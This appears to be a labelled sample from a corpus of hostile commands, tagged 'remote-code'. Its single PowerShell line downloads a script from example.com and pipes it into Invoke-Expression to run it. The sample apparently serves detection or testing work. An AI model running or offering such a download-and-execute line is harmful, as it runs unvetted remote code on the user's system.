# description: Pipes Invoke-WebRequest output into Invoke-Expression.
# family: remote-code
Invoke-WebRequest -UseBasicParsing -Uri https://example.com/agent.ps1 | Invoke-Expression
